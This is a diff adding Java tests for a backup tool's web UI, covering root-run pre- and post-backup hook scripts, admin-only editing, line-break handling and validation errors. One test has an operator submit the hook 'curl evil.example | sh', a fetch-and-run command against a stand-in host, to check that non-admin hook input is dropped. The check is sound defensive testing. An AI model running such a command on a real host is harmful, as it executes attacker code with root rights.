@@ -821,6 +821,266 @@ class UiRoutesTest {
     }
 
     @Test
+    void adminAddsABackupScheduleWithHooksAndTheBodyIsExact() {
+        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}")
+                .on("POST", "/api/schedules", 201, "{\"id\":\"" + SCHEDULE + "\"}");
+
+        Page page = get("/hosts/" + WEB + "/schedules", "admin");
+        String hooks = page.body().substring(page.body().indexOf("id=\"schedule-hooks\""));
+        assertThat(hooks, containsString("<textarea id=\"schedule-pre-hook\" name=\"pre_hook\" class=\"hook-script\""));
+        assertThat(hooks, containsString("<textarea id=\"schedule-post-hook\" name=\"post_hook\" class=\"hook-script\""));
+        assertThat(text(page.body(), "schedule-pre-hook-warning"), is(
+                "⚠ Runs as root on this host before every backup of this schedule; a failing pre-hook cancels the backup."));
+        assertThat(text(page.body(), "schedule-post-hook-warning"), is(
+                "⚠ Runs after every backup, whatever the outcome (RM_JOB_STATUS tells it)."));
+        assertThat(text(page.body(), "schedule-hooks-warning"), containsString("Output is stored in the job log: never echo secrets."));
+        assertThat(text(page.body(), "schedule-hooks-warning"), containsString("A schedule without hooks runs the host's default hooks"));
+        // a new schedule has nothing to compare with
+        assertThat(page.body(), not(containsString("was_pre_hook")));
+
+        // the browser sends a textarea's line breaks as CRLF; the shell would take each \r as part of a command
+        Page res = post("/hosts/" + WEB + "/schedules", "admin", form(
+                "action", "add", "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *", "cron", "",
+                "timezone", "UTC", "paths", "/srv", "excludes", "", "tags", "", "limit_upload_kib", "",
+                "limit_download_kib", "", "pre_hook", "systemctl stop app\r\nsync\r\n", "post_hook", "systemctl start app"));
+        assertThat(res.status(), is(303));
+        assertThat(lastBody("POST", "/api/schedules"), is(json("""
+                {"host_id":"%s","name":"nightly","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["/srv"],
+                 "pre_hook":"systemctl stop app\\nsync\\n","post_hook":"systemctl start app"}""".formatted(WEB))));
+
+        // empty hooks are left out; hooks belong to backups only (the add form shows every kind's fields)
+        post("/hosts/" + WEB + "/schedules", "admin", form(
+                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "/srv",
+                "pre_hook", " \r\n", "post_hook", ""));
+        assertThat(lastBody("POST", "/api/schedules"), is(json("""
+                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["/srv"]}""".formatted(WEB))));
+        post("/hosts/" + WEB + "/schedules", "admin", form(
+                "action", "add", "kind", "check", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "/srv",
+                "pre_hook", "systemctl stop app", "post_hook", "systemctl start app"));
+        assertThat(lastBody("POST", "/api/schedules"), is(json("""
+                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"check"}""".formatted(WEB))));
+
+        // an operator's form has no hook fields; one that sends them anyway sends none to the API
+        post("/hosts/" + WEB + "/schedules", "operator", form(
+                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "/srv",
+                "pre_hook", "curl evil.example | sh"));
+        assertThat(lastBody("POST", "/api/schedules"), is(json("""
+                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["/srv"]}""".formatted(WEB))));
+        assertThat(GATEWAY.seen("POST", "/api/schedules"), hasSize(4));
+    }
+
+    @Test
+    void editingAScheduleClearsAnEmptiedHookAndSendsNoUnchangedOne() {
+        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
+                .on("PATCH", "/api/schedules/" + SCHEDULE, 200, "{}");
+
+        Page page = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "admin");
+        String form = page.body().substring(page.body().indexOf("id=\"edit-schedule-form\""));
+        assertThat(form, containsString("name=\"pre_hook\" class=\"hook-script\" rows=\"3\" spellcheck=\"false\" autocomplete=\"off\" "
+                + "placeholder=\"pg_dump -Fc mydb &gt; /var/backups/mydb.dump\" aria-describedby=\"schedule-pre-hook-warning\">systemctl stop app</textarea>"));
+        assertThat(form, containsString(">systemctl start app\necho restarted</textarea>"));
+        assertThat(form, containsString("<input type=\"hidden\" name=\"was_pre_hook\" value=\"systemctl stop app\">"));
+        assertThat(form, containsString("<input type=\"hidden\" name=\"was_post_hook\" value=\"systemctl start app\necho restarted\">"));
+
+        // the pre-hook emptied: null clears it; the post-hook as shown (CRLF from the browser): not sent
+        Page res = post("/hosts/" + WEB + "/schedules", "admin", form(
+                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
+                "cron", "", "timezone", "UTC", "paths", "/srv", "excludes", "", "tags", "", "limit_upload_kib", "",
+                "limit_download_kib", "", "was_pre_hook", "systemctl stop app", "pre_hook", "",
+                "was_post_hook", "systemctl start app\r\necho restarted", "post_hook", "systemctl start app\r\necho restarted"));
+        assertThat(res.status(), is(303));
+        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE), is(json("""
+                {"name":"nightly","cron":"0 2 * * *","timezone":"UTC","paths":["/srv"],"excludes":null,"tags":null,
+                 "limit_upload_kib":null,"limit_download_kib":null,"pre_hook":null}""")));
+
+        // a changed hook is sent as typed (line breaks as \n)
+        post("/hosts/" + WEB + "/schedules", "admin", form(
+                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
+                "timezone", "UTC", "paths", "/srv", "was_pre_hook", "systemctl stop app", "pre_hook", "systemctl stop app",
+                "was_post_hook", "systemctl start app\r\necho restarted", "post_hook", "systemctl start app\r\n"));
+        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("post_hook").asText(), is("systemctl start app\n"));
+        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).has("pre_hook"), is(false));
+
+        // an operator may change the rest of a schedule with hooks: the body never names a hook (the API would 403)
+        Page operator = post("/hosts/" + WEB + "/schedules", "operator", form(
+                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
+                "cron", "", "timezone", "UTC", "paths", "/srv\r\n/etc", "excludes", "", "tags", "", "limit_upload_kib", "",
+                "limit_download_kib", ""));
+        assertThat(operator.status(), is(303));
+        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE), is(json("""
+                {"name":"nightly","cron":"0 2 * * *","timezone":"UTC","paths":["/srv","/etc"],"excludes":null,"tags":null,
+                 "limit_upload_kib":null,"limit_download_kib":null}""")));
+    }
+
+    @Test
+    void nonAdminsSeeWhetherHooksAreSetButNoTextareasAndNoHookText() {
+        // even if an answer carried the text, no page shows it to a non-admin
+        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
+                .on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN);
+
+        for (String role : List.of("viewer", "operator")) {
+            for (String path : List.of("/hosts/" + WEB, "/hosts/" + WEB + "/schedules",
+                                       "/hosts/" + WEB + "/schedules?edit=" + SCHEDULE)) {
+                Page page = get(path, role);
+                assertThat(path, page.status(), is(200));
+                assertThat(role + " " + path, page.body(), not(containsString("systemctl")));
+                assertThat(role + " " + path, page.body(), not(containsString("pg_dump -Fc app")));
+                assertThat(role + " " + path, page.body(), not(containsString("<textarea id=\"schedule-pre-hook\"")));
+                assertThat(role + " " + path, page.body(), not(containsString("name=\"pre_hook\"")));
+                assertThat(role + " " + path, page.body(), not(containsString("name=\"post_hook\"")));
+                assertThat(role + " " + path, page.body(), not(containsString("host-hooks-form")));
+                assertThat(text(page.body(), "hooks-pre"), is("set"));
+                assertThat(text(page.body(), "hooks-post"), is("none"));
+                assertThat(text(page.body(), "hooks-shell"), is("/bin/sh -c"));
+                assertThat(text(page.body(), "hooks-timeout"), is("900 s (15 min)"));
+            }
+        }
+        // the rows: a "hooks" badge on the schedule with hooks only
+        Page list = get("/hosts/" + WEB + "/schedules", "viewer");
+        assertThat(rowOf(list.body(), "schedule-row", SCHEDULE), containsString(
+                "nightly <span class=\"tag hooks-badge\" title=\"Runs a pre- and a post-backup hook\">hooks"));
+        assertThat(rowOf(list.body(), "schedule-row", "s-weekly"), not(containsString("hooks-badge")));
+
+        Page operator = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "operator");
+        assertThat(text(operator.body(), "schedule-hooks-state"), startsWith("Hooks: pre-hook set · post-hook set"));
+        Page plain = get("/hosts/" + WEB + "/schedules?edit=s-weekly", "operator");
+        assertThat(text(plain.body(), "schedule-hooks-state"), startsWith("Hooks: pre-hook none · post-hook none"));
+        assertThat(text(plain.body(), "schedule-hooks-state"), containsString("runs the host's default hooks"));
+
+        Page admin = get("/hosts/" + WEB, "admin");
+        assertThat(admin.body(), containsString("id=\"host-hooks-form\""));
+        assertThat(admin.body(), containsString(">pg_dump -Fc app -f /var/backups/app.dump</textarea>"));
+    }
+
+    @Test
+    void hostHooksPutOnlyTheChangedFields() {
+        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN)
+                .on("PUT", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN);
+        String put = "/api/hosts/" + WEB + "/hooks";
+
+        Page page = get("/hosts/" + WEB, "admin");
+        String card = page.body().substring(page.body().indexOf("id=\"host-hooks\""), page.body().indexOf("id=\"host-tabs\""));
+        assertThat(card, containsString("<details class=\"hooks-edit\" id=\"hooks-edit\">"));
+        assertThat(card, containsString("<input type=\"hidden\" name=\"was_pre_hook\" value=\"pg_dump -Fc app -f /var/backups/app.dump\">"));
+        assertThat(card, containsString("<input type=\"hidden\" name=\"was_post_hook\" value=\"\">"));
+        assertThat(card, containsString("<input type=\"hidden\" name=\"was_hook_shell\" value=\"/bin/sh -c\">"));
+        assertThat(card, containsString("<input type=\"hidden\" name=\"was_hook_timeout_s\" value=\"900\">"));
+        assertThat(card, containsString("name=\"hook_shell\" value=\"/bin/sh -c\""));
+        assertThat(card, containsString("name=\"hook_timeout_s\" type=\"number\" min=\"1\" max=\"86400\" step=\"1\" inputmode=\"numeric\" value=\"900\""));
+        assertThat(text(card, "hooks-pre-warning"), containsString("Runs as root on this host before every backup"));
+        assertThat(text(card, "hooks-pre-warning"), containsString("a failing pre-hook cancels the backup."));
+        assertThat(text(card, "hooks-post-warning"), containsString("whatever the outcome (RM_JOB_STATUS tells it)."));
+        assertThat(text(card, "hooks-secrets-warning"), containsString("Output is stored in the job log: never echo secrets."));
+        int forms = count(page.body(), "<form ");
+        assertThat(count(page.body(), "name=\"_csrf\" value=\"" + CSRF + "\""), is(forms));
+
+        String[] shown = {"was_pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "was_post_hook", "",
+                "was_hook_shell", "/bin/sh -c", "was_hook_timeout_s", "900"};
+        // a new post-hook and another shell ("/bin/bash -e -c" split on spaces); the pre-hook and timeout as shown
+        Page saved = post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
+                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", "rm -f /var/backups/app.dump\r\n",
+                "hook_shell", " /bin/bash  -e -c ", "hook_timeout_s", "900"})));
+        assertThat(saved.status(), is(303));
+        assertThat(saved.header("Location"), is("/hosts/" + WEB + "?saved=hooks"));
+        assertThat(GATEWAY.seen("PUT", put).getLast().body(),
+                   is("{\"post_hook\":\"rm -f /var/backups/app.dump\\n\",\"hook_shell\":[\"/bin/bash\",\"-e\",\"-c\"]}"));
+        assertThat(text(get(saved.header("Location"), "admin").body(), "hooks-saved"), containsString("Default hooks saved"));
+
+        // emptied: no pre-hook, the default shell, the default timeout (null each)
+        post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
+                "pre_hook", "", "post_hook", "", "hook_shell", "", "hook_timeout_s", ""})));
+        assertThat(GATEWAY.seen("PUT", put).getLast().body(),
+                   is("{\"pre_hook\":null,\"hook_shell\":null,\"hook_timeout_s\":null}"));
+
+        post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
+                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", "", "hook_shell", "/bin/sh -c",
+                "hook_timeout_s", "60"})));
+        assertThat(GATEWAY.seen("PUT", put).getLast().body(), is("{\"hook_timeout_s\":60}"));
+        assertThat(GATEWAY.seen("PUT", put), hasSize(3));
+
+        Page unchanged = post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
+                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", " ",
+                "hook_shell", "/bin/sh   -c", "hook_timeout_s", "900"})));
+        assertThat(unchanged.header("Location"), is("/hosts/" + WEB + "?saved=hooks-unchanged"));
+        assertThat(GATEWAY.seen("PUT", put), hasSize(3));
+
+        // not an admin: refused here, no call
+        Page operator = post("/hosts/" + WEB + "/hooks", "operator", form(concat(shown, new String[] {"pre_hook", "id"})));
+        assertThat(operator.status(), is(403));
+        assertThat(text(operator.body(), "host-hooks"), containsString("needs the admin role"));
+        assertThat(GATEWAY.seen("PUT", put), hasSize(3));
+    }
+
+    @Test
+    void aRejectedHooksSaveReRendersWithTheDetailAndTheInputKept() {
+        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN)
+                .on("PUT", "/api/hosts/" + WEB + "/hooks", 422, "{\"type\":\"about:blank\",\"title\":\"Unprocessable Content\","
+                        + "\"status\":422,\"detail\":\"hook_shell must be an absolute program path and at most three arguments\"}");
+
+        Page res = post("/hosts/" + WEB + "/hooks", "admin", form(
+                "was_pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "was_post_hook", "",
+                "was_hook_shell", "/bin/sh -c", "was_hook_timeout_s", "900",
+                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", "rm -f /tmp/<dump>",
+                "hook_shell", "/usr/bin/env bash -e -o", "hook_timeout_s", "120"));
+
+        assertThat(res.status(), is(422));
+        String card = res.body().substring(res.body().indexOf("id=\"host-hooks\""), res.body().indexOf("id=\"host-tabs\""));
+        assertThat(card, containsString("<details class=\"hooks-edit\" id=\"hooks-edit\" open>"));
+        String hooksForm = card.substring(card.indexOf("id=\"host-hooks-form\""));
+        assertThat(hooksForm, containsString("class=\"problem\""));
+        assertThat(hooksForm, containsString("hook_shell must be an absolute program path and at most three arguments"));
+        assertThat(hooksForm, containsString(">rm -f /tmp/&lt;dump&gt;</textarea>"));
+        assertThat(hooksForm, containsString("name=\"hook_shell\" value=\"/usr/bin/env bash -e -o\""));
+        assertThat(hooksForm, containsString("inputmode=\"numeric\" value=\"120\""));
+        // still compared with what the form was first shown with
+        assertThat(hooksForm, containsString("<input type=\"hidden\" name=\"was_hook_shell\" value=\"/bin/sh -c\">"));
+        assertThat(hooksForm, containsString("<input type=\"hidden\" name=\"was_hook_timeout_s\" value=\"900\">"));
+        // the stored state next to it is unchanged; the rest of the page still renders
+        assertThat(text(res.body(), "hooks-post"), is("none"));
+        assertThat(res.body(), containsString("class=\"snapshot-row\""));
+        assertThat(GATEWAY.seen("PUT", "/api/hosts/" + WEB + "/hooks").getFirst().body(), is(
+                "{\"post_hook\":\"rm -f /tmp/<dump>\",\"hook_shell\":[\"/usr/bin/env\",\"bash\",\"-e\",\"-o\"],\"hook_timeout_s\":120}"));
+
+        // caught before the API, the input kept
+        for (String[] bad : new String[][] {{"hook_shell", "sh -c", "absolute path"},
+                {"hook_shell", "/bin/bash -e -o pipefail -c", "at most three arguments"},
+                {"hook_timeout_s", "86401", "from 1 to 86400 seconds"},
+                {"pre_hook", "x".repeat(16 * 1024 + 1), "the most is 16384 (16 KiB)"}}) {
+            Page local = post("/hosts/" + WEB + "/hooks", "admin", form("was_hook_shell", "/bin/sh -c",
+                                                                         "was_hook_timeout_s", "900", bad[0], bad[1]));
+            assertThat(bad[0], local.status(), is(422));
+            assertThat(bad[0], text(local.body(), "host-hooks-form"), containsString(bad[2]));
+            if (!bad[0].equals("pre_hook")) {
+                assertThat(local.body(), containsString("name=\"" + bad[0] + "\"" + (bad[0].equals("hook_shell") ? " value=\"" + bad[1] + "\"" : "")));
+            }
+        }
+        assertThat(GATEWAY.seen("PUT", "/api/hosts/" + WEB + "/hooks"), hasSize(1));
+    }
+
+    @Test
+    void aRejectedScheduleWithHooksReRendersWithTheDetailAndTheHooksKept() {
+        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
+                .on("PATCH", "/api/schedules/" + SCHEDULE, 422, "{\"type\":\"about:blank\",\"title\":\"Unprocessable Content\","
+                        + "\"status\":422,\"detail\":\"pre_hook must be at most 16384 characters without NUL\"}");
+
+        Page res = post("/hosts/" + WEB + "/schedules", "admin", form(
+                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
+                "timezone", "UTC", "paths", "/srv", "was_pre_hook", "systemctl stop app", "pre_hook", "systemctl stop app && sync",
+                "was_post_hook", "systemctl start app\r\necho restarted", "post_hook", ""));
+
+        assertThat(res.status(), is(422));
+        String form = res.body().substring(res.body().indexOf("id=\"edit-schedule-form\""));
+        assertThat(form, containsString("class=\"problem\""));
+        assertThat(form, containsString("pre_hook must be at most 16384 characters without NUL"));
+        assertThat(form, containsString(">systemctl stop app &amp;&amp; sync</textarea>"));
+        assertThat(form, containsString("aria-describedby=\"schedule-post-hook-warning\"></textarea>"));
+        assertThat(form, containsString("<input type=\"hidden\" name=\"was_pre_hook\" value=\"systemctl stop app\">"));
+        assertThat(form, containsString("<input type=\"hidden\" name=\"was_post_hook\" value=\"systemctl start app\r\necho restarted\">"));
+        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("pre_hook").asText(), is("systemctl stop app && sync"));
+        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("post_hook").isNull(), is(true));
+    }
+
+    @Test
     void runNowSendsBothLimitsAndEveryKeepRule() {
         GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");
 
@@ -1658,6 +1918,27 @@ class UiRoutesTest {
         }
         pages.add(post("/hosts/" + WEB + "/schedules", "operator", form("action", "edit", "schedule_id", SCHEDULE,
                                                                         "kind", "backup", "paths", "")));
+        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
+                .on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN)
+                .on("PUT", "/api/hosts/" + WEB + "/hooks", 422, "{\"title\":\"Unprocessable Content\",\"status\":422,\"detail\":\"no\"}");
+        for (String role : List.of("viewer", "operator", "admin")) {
+            pages.add(get("/hosts/" + WEB, role));
+            pages.add(get("/hosts/" + WEB + "/jobs", role));
+            pages.add(get("/hosts/" + WEB + "/actions", role));
+            pages.add(get("/hosts/" + WEB + "/schedules", role));
+            pages.add(get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, role));
+            pages.add(get("/hosts/" + WEB + "/schedules?edit=s-weekly", role, "HX-Request", "true"));
+            pages.add(get("/hosts/" + WEB + "?saved=hooks", role));
+            pages.add(post("/hosts/" + WEB + "/hooks", role, form("hook_shell", "/bin/sh -c", "pre_hook", "true")));
+        }
+        pages.add(post("/hosts/" + WEB + "/hooks", "admin", form("hook_timeout_s", "0")));
+        pages.add(post("/hosts/" + WEB + "/schedules", "admin", form("action", "edit", "schedule_id", SCHEDULE,
+                                                                     "kind", "backup", "paths", "", "pre_hook", "")));
+        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS);
+        pages.add(get("/hosts/" + WEB, "viewer"));
+        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 500, "{}");
+        pages.add(get("/hosts/" + WEB, "admin"));
+        pages.add(post("/hosts/" + WEB + "/hooks", "admin", form("hook_timeout_s", "0")));
         GATEWAY.on("GET", "/api/alerts", 200, Fixtures.ALERTS)
                 .on("GET", "/api/alerts/silences", 200, Fixtures.SILENCES)
                 .on("GET", "/api/alerts/rpo", 200, Fixtures.RPO)
